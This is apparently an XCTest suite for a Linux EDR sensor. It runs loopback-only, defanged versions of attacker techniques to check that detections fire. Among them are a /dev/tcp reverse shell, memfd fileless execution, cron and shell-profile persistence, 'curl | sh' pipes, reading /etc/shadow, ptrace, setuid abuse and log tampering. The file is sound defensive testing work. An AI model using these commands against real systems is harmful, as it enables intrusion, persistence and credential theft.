// Issue 4, acceptance 1–4: each built-in detection is shown the real behaviour
// on this machine (temporary directories, loopback only, cleaned up), and the
// alert is checked for its technique and evidence; shipped Sigma rules fire end
// to end; the process tree's bound and ancestry; hunting.
import Foundation
import Glibc
import MdatpJSON
import MdatpRoom
import MdatpSystem
import XCTest

final class EDRDetectionTests: XCTestCase {
    static var shared: Suite?
    static let config = """
    {"antivirusEngine": {"enforcementLevel": "passive"},
     "sensor": {"statusIntervalSeconds": 1, "heartbeatSeconds": 0.5, "processTableCapacity": 256,
                "restart": {"floorSeconds": 1, "maxDeaths": 10, "windowSeconds": 60}}}
    """
    var dir = ""

    func suite() throws -> Suite {
        try requireRoot()
        if let s = EDRDetectionTests.shared {
            try s.waitUntil("collector and edr running", timeout: 60) { st in
                ["collector", "edr"].allSatisfy { s.room($0, in: st)?["state"]?.string == "running" }
            }
            return s
        }
        let s = try Suite(name: "edr", config: EDRDetectionTests.config)
        try s.start(waitFor: ["collector", "edr"])
        EDRDetectionTests.shared = s
        return s
    }

    override func setUpWithError() throws {
        dir = try makeTempDir("mdatp-edr")
    }

    override func tearDown() {
        if !dir.isEmpty { try? FileManager.default.removeItem(atPath: dir) }
        super.tearDown()
    }

    override class func tearDown() {
        shared?.stop()
        shared = nil
        super.tearDown()
    }

    // MARK: helpers

    /// Runs a program (no shell unless asked), waits, returns its status.
    @discardableResult
    func run(_ exe: String, _ args: [String], stdin: FileHandle? = nil) throws -> Int32 {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: exe)
        p.arguments = args
        p.standardOutput = FileHandle.nullDevice
        p.standardError = FileHandle.nullDevice
        if let stdin { p.standardInput = stdin }
        try p.run()
        p.waitUntilExit()
        return p.terminationStatus
    }

    @discardableResult
    func sh(_ script: String) throws -> Int32 { try run("/bin/sh", ["-c", script]) }

    /// Waits for an alert from `source` that `match` accepts; returns it (with evidence).
    @discardableResult
    func alert(_ s: Suite, _ source: String, technique: String, timeout: Double = 20, _ match: (JSON) -> Bool = { _ in true }) throws -> JSON {
        let deadline = Date().addingTimeInterval(timeout)
        var seen: [JSON] = []
        while Date() < deadline {
            let r = try s.cli(["edr", "alert", "list", "--output", "json", "--limit", "10000"])
            if r.code == 0 {
                seen = r.out.split(separator: "\n").compactMap { try? JSON.parse(String($0)) }
                if let a = seen.first(where: { $0["detection_source"]?.string == source && match($0) }) {
                    XCTAssertTrue(a["techniques"]?.array?.contains(.string(technique)) ?? false, "\(source): \(a.serialized())")
                    XCTAssertFalse(a["title"]?.string?.isEmpty ?? true)
                    XCTAssertFalse((a["evidence"]?["process_chain"]?.array ?? []).isEmpty, "evidence has the process chain: \(a.serialized())")
                    return a
                }
            }
            usleep(200_000)
        }
        throw HarnessError(description: "no alert from \(source) matched; alerts: \(seen.map { "\($0["detection_source"]?.string ?? "") \($0["description"]?.string ?? "")" })\n\(s.tailOfLog())")
    }

    func chain(_ a: JSON) -> [JSON] { a["evidence"]?["process_chain"]?.array ?? [] }
    func files(_ a: JSON) -> [String] { a["evidence"]?["files"]?.array?.compactMap(\.string) ?? [] }

    func copy(_ from: String, _ to: String, mode: mode_t = 0o755) throws {
        try? FileManager.default.removeItem(atPath: to)
        try FileManager.default.copyItem(atPath: from, toPath: to)
        chmod(to, mode)
    }

    /// A TCP listener on 127.0.0.1 (connections queue in its backlog); returns (fd, port).
    func listener() throws -> (Int32, UInt16) {
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var a = sockaddr_in()
        a.sin_family = sa_family_t(AF_INET)
        a.sin_addr.s_addr = inet_addr("127.0.0.1")
        a.sin_port = 0
        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
        let ok = withUnsafeMutablePointer(to: &a) { p in
            p.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, len) == 0 && listen(fd, 16) == 0 && getsockname(fd, $0, &len) == 0 }
        }
        guard ok else { throw HarnessError(description: "listener: errno \(errno)") }
        return (fd, UInt16(bigEndian: a.sin_port))
    }

    // MARK: built-in detections (acceptance 1)

    func testReverseShellOnASocketIsDetectedAndTheSigmaDevTcpRuleFires() throws {
        let s = try suite()
        let (fd, port) = try listener()
        defer { close(fd) }
        // bash opens the TCP connection and hands it to sh as stdin and stdout.
        try run("/bin/bash", ["-c", "exec /bin/sh -c true 0<>/dev/tcp/127.0.0.1/\(port) 1>&0"])
        let a = try alert(s, "builtin:reverse_shell", technique: "T1059.004") { ($0["description"]?.string ?? "").contains("stdin socket") }
        XCTAssertTrue(chain(a).first?["exe"]?.string?.hasSuffix("sh") ?? false, a.serialized())
        try alert(s, "sigma:0f7c1d6e-3b8a-4e61-9a52-6f0d8c1e2a01", technique: "T1059.004") {
            self.chain($0).first?["command_line"]?.string?.contains("/dev/tcp/127.0.0.1/\(port)") ?? false
        }
    }

    func testFilelessExecutionFromMemfdAndFromADeletedFile() throws {
        let s = try suite()
        try run("/usr/bin/python3", ["-c", """
        import os
        fd = os.memfd_create('mdatp-payload')
        os.write(fd, open('/bin/true', 'rb').read())
        pid = os.fork()
        if pid == 0: os.execv('/proc/self/fd/%d' % fd, ['mdatp-payload'])
        os.waitpid(pid, 0)
        """])
        let m = try alert(s, "builtin:fileless_execution", technique: "T1620") { ($0["description"]?.string ?? "").contains("memfd:mdatp-payload") }
        XCTAssertEqual(chain(m).first?["exe"]?.string, "/memfd:mdatp-payload", m.serialized())
        let victim = dir + "/deleted-after-open"
        try copy("/bin/true", victim)
        try run("/usr/bin/python3", ["-c", """
        import os, sys
        fd = os.open(sys.argv[1], os.O_RDONLY)
        os.unlink(sys.argv[1])
        pid = os.fork()
        if pid == 0: os.execv('/proc/self/fd/%d' % fd, ['gone'])
        os.waitpid(pid, 0)
        """, victim])
        try alert(s, "builtin:fileless_execution", technique: "T1620") { ($0["description"]?.string ?? "").contains("deleted") && self.files($0).contains(victim) }
    }

    func testAProgramWrittenToTmpAndRunAtOnceIsDetected() throws {
        let s = try suite()
        let dropped = dir + "/dropped-payload"
        try sh("cp /bin/true \(dropped) && \(dropped)")
        let a = try alert(s, "builtin:dropped_and_executed", technique: "T1105") { self.files($0).contains(dropped) }
        XCTAssertEqual(chain(a).first?["exe"]?.string, dropped, a.serialized())
        XCTAssertTrue(a["evidence"]?["details"]?["written_by"]?.string?.hasSuffix("/cp") ?? false, a.serialized())
    }

    func testLdPreloadWriteIsDetectedAndTheSigmaFileRuleFires() throws {
        let s = try suite()
        let path = "/etc/ld.so.preload"
        let existed = FileManager.default.fileExists(atPath: path)
        // Opened for writing and closed without a byte changed; removed again if it was not there.
        let fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0o644)
        XCTAssertGreaterThanOrEqual(fd, 0)
        close(fd)
        if !existed { unlink(path) }
        let a = try alert(s, "builtin:ld_preload_hijack", technique: "T1574.006")
        XCTAssertEqual(files(a), [path])
        try alert(s, "sigma:7b4c1e9d-2a6f-4d3b-8e05-6f1a9d2c7e09", technique: "T1574.006")
    }

    func testCronSystemdAndRcPersistenceAreDetected() throws {
        let s = try suite()
        let tag = "mdatp-test-\(getpid())"
        var made: [String] = []
        for d in ["/etc/cron.d", "/etc/init.d"] where !FileManager.default.fileExists(atPath: d) {
            try FileManager.default.createDirectory(atPath: d, withIntermediateDirectories: true)
            made.append(d)
        }
        defer {
            unlink("/etc/cron.d/\(tag)")
            unlink("/etc/init.d/\(tag)")
            for d in made { rmdir(d) }
        }
        try sh("printf '# written by the mdatp test suite\\n' > /etc/cron.d/\(tag)")
        try sh("printf '#!/bin/sh\\n# written by the mdatp test suite\\n' > /etc/init.d/\(tag)")
        let unitDir = dir + "/home/someone/.config/systemd/user"
        try FileManager.default.createDirectory(atPath: unitDir, withIntermediateDirectories: true)
        try sh("printf '[Service]\\nExecStart=/bin/true\\n' > \(unitDir)/\(tag).service")
        try alert(s, "builtin:cron_persistence", technique: "T1053.003") { self.files($0) == ["/etc/cron.d/\(tag)"] }
        try alert(s, "builtin:rc_script_persistence", technique: "T1037.004") { self.files($0) == ["/etc/init.d/\(tag)"] }
        try alert(s, "builtin:systemd_persistence", technique: "T1543.002") { self.files($0) == ["\(unitDir)/\(tag).service"] }
    }

    func testShellProfileAndAuthorizedKeysChangesAreDetected() throws {
        let s = try suite()
        let home = dir + "/home/someone"
        try FileManager.default.createDirectory(atPath: home + "/.ssh", withIntermediateDirectories: true)
        try sh("echo 'curl -s http://127.0.0.1:9/x | sh' >> \(home)/.bashrc")
        try sh("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMdatpTestKeyOnly test' >> \(home)/.ssh/authorized_keys")
        let p = try alert(s, "builtin:shell_profile_persistence", technique: "T1546.004") { self.files($0) == [home + "/.bashrc"] }
        XCTAssertTrue(chain(p).first?["exe"]?.string?.hasSuffix("sh") ?? false)
        try alert(s, "builtin:ssh_authorized_keys", technique: "T1098.004") { self.files($0) == [home + "/.ssh/authorized_keys"] }
    }

    func testReadingShadowIsDetectedAndTheAuditdRuleFires() throws {
        let s = try suite()
        try sh("/bin/cat /etc/shadow > /dev/null")
        let a = try alert(s, "builtin:shadow_file_read", technique: "T1003.008") { self.chain($0).first?["exe"]?.string == "/usr/bin/cat" }
        XCTAssertEqual(files(a), ["/etc/shadow"])
        // The same read as auditd's PATH record, for a rule written for auditd.
        try alert(s, "sigma:3d9f2b6a-4e8c-4a1d-b7e5-9c0a1f3e6d08", technique: "T1003.008")
    }

    func testLogAndHistoryTamperingAreDetected() throws {
        let s = try suite()
        let log = "/var/log/mdatp-test-\(getpid()).log"
        try sh("echo entry > \(log) && mv \(log) \(log).old && rm -f \(log).old")
        try alert(s, "builtin:log_tampering", technique: "T1070.002") { ($0["description"]?.string ?? "").contains("moved \(log) to \(log).old") }
        try alert(s, "builtin:log_tampering", technique: "T1070.002") { ($0["description"]?.string ?? "").contains("deleted \(log).old") }
        let history = dir + "/.bash_history"
        try sh("echo 'secret command' > \(history) && rm \(history)")
        try alert(s, "builtin:history_tampering", technique: "T1070.003") { ($0["description"]?.string ?? "").contains("deleted \(history)") }
    }

    func testKernelModuleLoadIsDetected() throws {
        let s = try suite()
        // This needs a kernel with loadable modules. The one CI runs on is built without
        // them (no /proc/modules, no finit_module tracepoint): there, the sensor must say
        // so, and the kernel matrix (make test-kernels) loads a real module inside stock
        // 6.1 and 6.12 kernels and checks this detection's alert on what the kernel reported
        // (mdatp-kernel-test: module_load_and_its_edr_alert).
        guard FileManager.default.fileExists(atPath: "/proc/modules") else {
            let skipped = s.status()?["sensor"]?["not_on_this_kernel"]?.array?.compactMap(\.string) ?? []
            XCTAssertTrue(skipped.contains("sys_exit_finit_module"), "the collector says why: \(skipped)")
            return
        }
        let bogus = dir + "/mdatp-test.ko"
        try sh("head -c 4096 /dev/urandom > \(bogus)")
        try run("/usr/bin/python3", ["-c", "import ctypes,os,sys; libc=ctypes.CDLL(None, use_errno=True); fd=os.open(sys.argv[1], os.O_RDONLY); libc.syscall(313, fd, b'', 0)", bogus])
        try alert(s, "builtin:kernel_module_load", technique: "T1547.006") { self.files($0).contains(bogus) }
    }

    func testPtraceOfAnotherUsersProcessIsDetected() throws {
        let s = try suite()
        let target = Process()
        target.executableURL = URL(fileURLWithPath: "/usr/bin/setpriv")
        target.arguments = ["--reuid=65534", "--regid=65534", "--clear-groups", "/bin/sleep", "30"]
        try target.run()
        defer { target.terminate(); target.waitUntilExit() }
        usleep(300_000)
        let pid = target.processIdentifier
        try run("/usr/bin/python3", ["-c", """
        import ctypes, sys, time, os
        libc = ctypes.CDLL(None, use_errno=True)
        pid = int(sys.argv[1])
        assert libc.ptrace(16, pid, 0, 0) == 0, ctypes.get_errno()
        os.waitpid(pid, 0)
        libc.ptrace(17, pid, 0, 0)
        """, String(pid)])
        let a = try alert(s, "builtin:ptrace_other_user", technique: "T1055.008") { $0["evidence"]?["details"]?["target_pid"]?.string == String(pid) }
        XCTAssertEqual(a["evidence"]?["details"]?["target_uid"]?.string, "65534", a.serialized())
        XCTAssertTrue(chain(a).first?["exe"]?.string?.contains("python") ?? false, a.serialized())
    }

    func testSetuidCreationAndAnUnexpectedRootProgramAreDetected() throws {
        let s = try suite()
        let copyOfId = dir + "/not-really-id"
        try copy("/usr/bin/id", copyOfId)
        try run("/bin/chmod", ["4755", copyOfId])
        try alert(s, "builtin:setuid_created", technique: "T1548.001") { self.files($0) == [copyOfId] }
        // Run by nobody, it runs as root.
        XCTAssertEqual(try run("/usr/bin/setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", copyOfId]), 0)
        let a = try alert(s, "builtin:unexpected_root", technique: "T1068") { self.files($0) == [copyOfId] }
        XCTAssertEqual(chain(a).first?["uid"]?.int, 65534, a.serialized())
    }

    func testAWebServerStartingAShellIsDetectedWithItsAncestry() throws {
        let s = try suite()
        let server = dir + "/nginx"
        try copy("/bin/dash", server)
        try run(server, ["-c", "/bin/sh -c true; true"])
        let a = try alert(s, "builtin:web_server_shell", technique: "T1505.003") { self.chain($0).dropFirst().first?["exe"]?.string == server }
        let c = chain(a)
        XCTAssertEqual(c.first?["command_line"]?.string, "/bin/sh -c true", a.serialized())
        // The grandparent is this test process, which was running before the suite
        // started: known from the process table's start-up seeding.
        XCTAssertEqual(c.count, 3, a.serialized())
        XCTAssertEqual(c.last?["pid"]?.int, Int(getpid()), a.serialized())
    }

    func testCryptoMinerArgumentsAndPoolConnectionsAreDetected() throws {
        let s = try suite()
        try run("/bin/sh", ["-c", "true", "miner", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet"])
        try alert(s, "builtin:crypto_miner", technique: "T1496") { ($0["description"]?.string ?? "").contains("stratum+tcp://127.0.0.1:3333") }
        try run("/usr/bin/curl", ["-s", "--max-time", "1", "http://127.0.0.1:3333/"])
        try alert(s, "builtin:crypto_miner", technique: "T1496") { $0["evidence"]?["connections"]?.array?.contains(.string("127.0.0.1:3333")) ?? false }
        try alert(s, "sigma:8e3b5d7a-1c9f-4b2e-9d60-4a7c2f1e8b06", technique: "T1496")
    }

    func testAPortScanIsDetected() throws {
        let s = try suite()
        // One process, many closed loopback ports.
        try run("/bin/bash", ["-c", "for p in $(seq 47100 47140); do echo > /dev/tcp/127.0.0.1/$p; done 2>/dev/null; true"])
        let a = try alert(s, "builtin:port_scan", technique: "T1046") { ($0["evidence"]?["connections"]?.array?.count ?? 0) >= 20 }
        XCTAssertTrue(a["evidence"]?["connections"]?.array?.contains(.string("127.0.0.1:47100")) ?? false, a.serialized())
    }

    func testNsenterIntoPid1IsAContainerEscapeHint() throws {
        let s = try suite()
        try run("/usr/bin/nsenter", ["-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/true"])
        let a = try alert(s, "builtin:container_escape", technique: "T1611")
        XCTAssertTrue(chain(a).first?["command_line"]?.string?.contains("-t 1") ?? false, a.serialized())
    }

    func testADownloadPipedIntoAShellIsDetected() throws {
        let s = try suite()
        try "true\n".write(toFile: dir + "/install.sh", atomically: true, encoding: .utf8)
        let port = 20000 + Int(getpid() % 20000)
        let server = Process()
        server.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        server.arguments = ["-m", "http.server", String(port), "--bind", "127.0.0.1", "--directory", dir]
        server.standardOutput = FileHandle.nullDevice
        server.standardError = FileHandle.nullDevice
        try server.run()
        defer { server.terminate(); server.waitUntilExit() }
        for _ in 0..<50 {
            if try run("/bin/bash", ["-c", "exec 3<>/dev/tcp/127.0.0.1/\(port)"]) == 0 { break }
            usleep(100_000)
        }
        XCTAssertEqual(try run("/bin/bash", ["-c", "curl -fsS http://127.0.0.1:\(port)/install.sh | sh"]), 0)
        let a = try alert(s, "builtin:download_piped_to_shell", technique: "T1105") {
            ($0["evidence"]?["details"]?["download"]?.string ?? "").contains("127.0.0.1:\(port)/install.sh")
        }
        XCTAssertTrue(chain(a).first?["exe"]?.string?.hasSuffix("sh") ?? false, a.serialized())
    }

    func testASignalToTheSuiteIsDetected() throws {
        let s = try suite()
        guard let pid = s.room("edr", in: s.status())?["pid"]?.int else { return XCTFail("no edr pid") }
        // Stopped for a moment by a process outside the suite (then let go on).
        XCTAssertEqual(kill(pid_t(pid), SIGSTOP), 0)
        usleep(20_000)
        XCTAssertEqual(kill(pid_t(pid), SIGCONT), 0)
        let a = try alert(s, "builtin:sensor_tampering", technique: "T1562.001") { $0["evidence"]?["details"]?["target_pid"]?.string == String(pid) }
        XCTAssertEqual(a["evidence"]?["details"]?["signal"]?.string, String(SIGSTOP))
    }

    // MARK: enrichment

    func testEventsNameTheContainerTheirCgroupBelongsTo() throws {
        let s = try suite()
        let mountinfo = try String(contentsOfFile: "/proc/self/mountinfo", encoding: .utf8)
        guard let line = mountinfo.split(separator: "\n").first(where: { $0.contains(" - cgroup2 ") }) else {
            return XCTFail("no cgroup v2 hierarchy mounted")
        }
        let root = String(line.split(separator: " ")[4])
        // 64 hex digits, as a container id (each part has its top bit set: 16 digits).
        let id = (0..<4).map { _ in String(UInt64.random(in: 1 << 63 ..< UInt64.max), radix: 16) }.joined()
        let cgroup = root + "/docker-\(id).scope"
        XCTAssertEqual(mkdir(cgroup, 0o755), 0, "mkdir \(cgroup): errno \(errno)")
        defer { for _ in 0..<50 where rmdir(cgroup) != 0 { usleep(100_000) } }
        let marker = "mdatp-container-\(id.prefix(12))"
        // A shell moves itself into the cgroup Docker would have made, then runs a program there.
        XCTAssertEqual(try run("/bin/sh", ["-c", "echo $$ > \(cgroup)/cgroup.procs && exec /bin/true \(marker)"]), 0)
        let deadline = Date().addingTimeInterval(20)
        var found: JSON?
        while Date() < deadline && found == nil {
            let r = try s.cli(["events", "list", "--type", "exec", "--limit", "2000", "--output", "json"])
            found = r.out.split(separator: "\n").compactMap { try? JSON.parse(String($0)) }.first { $0["argv"]?.array?.contains(.string(marker)) ?? false }
            if found == nil { usleep(200_000) }
        }
        let e = try XCTUnwrap(found, "no exec event with \(marker)")
        XCTAssertEqual(e["details"]?["container_runtime"]?.string, "docker", e.serialized())
        XCTAssertEqual(e["details"]?["container_id"]?.string, id, e.serialized())
    }

    // MARK: shipped Sigma rules on real behaviour (acceptance 2, end to end)

    func testShippedSigmaRulesFireOnRealBehaviour() throws {
        let s = try suite()
        try run("/usr/bin/python3", ["-c", "import pty; pty.spawn('/bin/true')"])
        try alert(s, "sigma:9d1e6c3a-2f4b-4a8e-8c71-3b5d0e7f9c03", technique: "T1059.006")
        try run("/bin/sh", ["-c", "echo dHJ1ZQo= | base64 -d | sh"])
        try alert(s, "sigma:6a0c2e8d-5b1f-4c7a-9e34-8f2d1a6b0c04", technique: "T1140")
        try run("/bin/bash", ["-c", "unset HISTFILE; true"])
        try alert(s, "sigma:2c7e9a1b-6d3f-4e8a-a5c2-0b9f8e1d3a05", technique: "T1070.003")
        // An auditd-style rule (EXECVE a0…): wget into /tmp.
        try run("/usr/bin/wget", ["-q", "-O", dir + "/fetched", "http://127.0.0.1:9/x"])
        try alert(s, "sigma:5f1a8c2e-7b3d-4e9f-8a16-2d0c9e7b4f07", technique: "T1105")
        // Rules loaded, none refused; an admin's rule that cannot be supported is refused by name.
        let rules = try JSON.parse(try s.cli(["edr", "rules", "list", "--output", "json"]).out)
        XCTAssertEqual(rules["sigma"]?.array?.count, 9, rules.serialized())
        XCTAssertEqual(rules["refused"]?.array?.count, 0, rules.serialized())
        XCTAssertGreaterThanOrEqual(rules["builtin"]?.array?.count ?? 0, 15)
    }

    // MARK: process tree (acceptance 3) and hunting (acceptance 4)

    func testTheProcessTreeStaysWithinItsBoundAndKnowsAThreeLevelChain() throws {
        let s = try suite()
        // A storm of short-lived processes, and more long-lived ones than the table holds (256).
        try run("/bin/bash", ["-c", "for i in $(seq 1 1500); do /bin/true; done"])
        try run("/bin/bash", ["-c", "for i in $(seq 1 400); do sleep 3 & done; wait"])
        let st = try s.waitUntil("process table evictions counted", timeout: 20) { st in
            (s.room("edr", in: st)?["counters"]?["process_table_evictions"]?.int ?? 0) > 0
        }
        let size = s.room("edr", in: st)?["counters"]?["process_table_size"]?.int ?? -1
        XCTAssertLessThanOrEqual(size, 256, "\(s.room("edr", in: st) ?? .null)")
        XCTAssertGreaterThan(size, 0)
        // Three levels, each a distinct program.
        for n in ["lvl1", "lvl2", "lvl3"] { try copy("/bin/dash", dir + "/" + n) }
        try run(dir + "/lvl1", ["-c", "\(dir)/lvl2 -c '\(dir)/lvl3 -c true; true'; true"])
        let q = "SELECT c.FolderPath, c.InitiatingProcessFolderPath AS Parent, p.InitiatingProcessFolderPath AS Grandparent " +
            "FROM DeviceProcessEvents c JOIN DeviceProcessEvents p ON p.ProcessId = c.InitiatingProcessId AND p.TimestampNs <= c.TimestampNs " +
            "WHERE c.FolderPath = '\(dir)/lvl3' ORDER BY p.TimestampNs DESC LIMIT 1"
        let row = try firstHuntRow(s, q, "a three-level chain")
        XCTAssertEqual(row["Parent"]?.string, dir + "/lvl2", row.serialized())
        XCTAssertEqual(row["Grandparent"]?.string, dir + "/lvl1", row.serialized())
    }

    /// The first row `q` returns, asking again until the EDR has stored what it needs.
    func firstHuntRow(_ s: Suite, _ q: String, _ what: String, timeout: Double = 20) throws -> JSON {
        let deadline = Date().addingTimeInterval(timeout)
        var out = ""
        while Date() < deadline {
            let r = try s.cli(["hunt", q, "--output", "json"])
            out = r.out + r.err
            if let row = try? JSON.parse(r.out.split(separator: "\n").first.map(String.init) ?? "") { return row }
            usleep(200_000)
        }
        throw HarnessError(description: "no row for \(what): \(out)")
    }

    func testExecutablesGetTheirSHA256OffTheHotPath() throws {
        let s = try suite()
        // A program no other test runs: /bin/true with bytes of its own appended.
        let exe = dir + "/hashme"
        try copy("/bin/true", exe)
        let h = try XCTUnwrap(FileHandle(forWritingAtPath: exe))
        h.seekToEndOfFile()
        h.write(Data(UUID().uuidString.utf8))
        h.closeFile()
        XCTAssertEqual(try run(exe, []), 0)
        let digest = try XCTUnwrap(FileManager.default.contents(atPath: exe).map { sha256Hex($0) })
        let q = "SELECT SHA256 FROM DeviceProcessEvents WHERE FolderPath = '\(exe)' AND SHA256 IS NOT NULL"
        XCTAssertEqual(try firstHuntRow(s, q, "the digest of \(exe)")["SHA256"]?.string, digest)
        // The next run is answered from the cache at once.
        XCTAssertEqual(try run(exe, []), 0)
        let st = try s.waitUntil("the hash counted", timeout: 10) { st in
            (s.room("edr", in: st)?["counters"]?["hashes_computed"]?.int ?? 0) >= 1
        }
        XCTAssertGreaterThanOrEqual(s.room("edr", in: st)?["counters"]?["hash_cache_size"]?.int ?? 0, 1)
        // What the program did carries its digest too (InitiatingProcessSHA256).
        let tool = dir + "/hash-writer"
        try copy("/bin/dash", tool)
        XCTAssertEqual(try run(tool, ["-c", "echo x > \(dir)/written-by-tool; sleep 1; echo y > \(dir)/written-by-tool"]), 0)
        let toolDigest = try XCTUnwrap(FileManager.default.contents(atPath: tool).map { sha256Hex($0) })
        let fq = "SELECT InitiatingProcessSHA256 AS h FROM DeviceFileEvents WHERE FolderPath = '\(dir)/written-by-tool' AND h IS NOT NULL"
        XCTAssertEqual(try firstHuntRow(s, fq, "the file events of \(tool)")["h"]?.string, toolDigest)
    }

    func testHuntJoinsProcessAndNetworkTablesAndRefusesWrites() throws {
        let s = try suite()
        let (fd, port) = try listener()
        defer { close(fd) }
        try run("/bin/bash", ["-c", "exec 3<>/dev/tcp/127.0.0.1/\(port)"])
        let q = "SELECT p.FileName, p.ProcessCommandLine, n.RemoteIP, n.RemotePort, n.ActionType FROM DeviceProcessEvents p " +
            "JOIN DeviceNetworkEvents n ON n.InitiatingProcessId = p.ProcessId WHERE n.RemotePort = \(port)"
        let deadline = Date().addingTimeInterval(20)
        var rows: [JSON] = []
        while Date() < deadline && rows.isEmpty {
            let r = try s.cli(["hunt", q, "--output", "json"])
            XCTAssertEqual(r.code, 0, r.err)
            rows = r.out.split(separator: "\n").compactMap { try? JSON.parse(String($0)) }
            if rows.isEmpty { usleep(200_000) }
        }
        XCTAssertEqual(rows.first?["FileName"]?.string, "bash", "\(rows)")
        XCTAssertEqual(rows.first?["RemoteIP"]?.string, "127.0.0.1")
        XCTAssertEqual(rows.first?["ActionType"]?.string, "ConnectionSuccess")
        XCTAssertTrue(rows.first?["ProcessCommandLine"]?.string?.contains("/dev/tcp/127.0.0.1/\(port)") ?? false)
        // Writes, schema changes, attachments, several statements: refused with a reason; the store is intact.
        for (bad, why) in [("DELETE FROM events", "read-only"), ("DROP VIEW DeviceInfo", "read-only"), ("ATTACH '/tmp/x.db' AS x", "read-only"),
                           ("PRAGMA writable_schema=1", "read-only"), ("SELECT 1; DELETE FROM events", "one statement"),
                           ("SELEKT 1", "bad query")] {
            let r = try s.cli(["hunt", bad])
            XCTAssertNotEqual(r.code, 0, bad)
            XCTAssertTrue(r.err.contains(why), "\(bad): \(r.err)")
        }
        let count = try s.cli(["hunt", "SELECT count(*) AS n FROM DeviceNetworkEvents", "--output", "json"])
        XCTAssertGreaterThan((try JSON.parse(count.out))["n"]?.int ?? 0, 0, count.out + count.err)
        let info = try JSON.parse(try s.cli(["hunt", "SELECT * FROM DeviceInfo", "--output", "json"]).out)
        XCTAssertEqual(info["OSPlatform"]?.string, "Linux")
        XCTAssertFalse(info["DeviceName"]?.string?.isEmpty ?? true)
    }
}

/// SHA-256 in hex (sha256sum), to check the EDR's digests against.
func sha256Hex(_ data: Data) -> String {
    let p = Process()
    p.executableURL = URL(fileURLWithPath: "/usr/bin/sha256sum")
    let input = Pipe(), output = Pipe()
    p.standardInput = input
    p.standardOutput = output
    try? p.run()
    input.fileHandleForWriting.write(data)
    input.fileHandleForWriting.closeFile()
    let out = output.fileHandleForReading.readDataToEndOfFile()
    p.waitUntilExit()
    return String(decoding: out, as: UTF8.self).split(separator: " ").first.map(String.init) ?? ""
}
